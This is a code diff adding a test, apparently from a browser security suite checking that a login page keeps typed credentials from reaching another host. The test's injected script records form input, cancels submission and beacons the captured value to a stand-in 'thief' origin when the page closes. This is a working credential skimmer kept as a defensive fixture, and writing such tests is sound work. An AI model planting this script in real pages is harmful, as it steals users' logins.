@@ -173,6 +173,19 @@ for (const [what, script] of Object.entries(unreadable))
     },
   );
 
+test('what a page that stays sends as its browser closes reaches no other host', async ({
+  logInAt,
+  thief,
+}) => {
+  const script = `let kept;
+    ${onInput('if (value) kept = value;')}
+    document.forms[0].addEventListener('submit', (sent) => sent.preventDefault());
+    addEventListener('pagehide', () => { if (kept) navigator.sendBeacon('${thief.origin}/', kept); });`;
+  await logInAt({ script, closes: true });
+  expect(thief.heard.filter((one) => one.startsWith('POST'))).toEqual([]);
+  expect(thief.heard.some((one) => one.startsWith('GET /after'))).toBe(true);
+});
+
 test('a service worker that answers the login in place of the server takes it to no other host', async ({
   logInAt,
   thief,
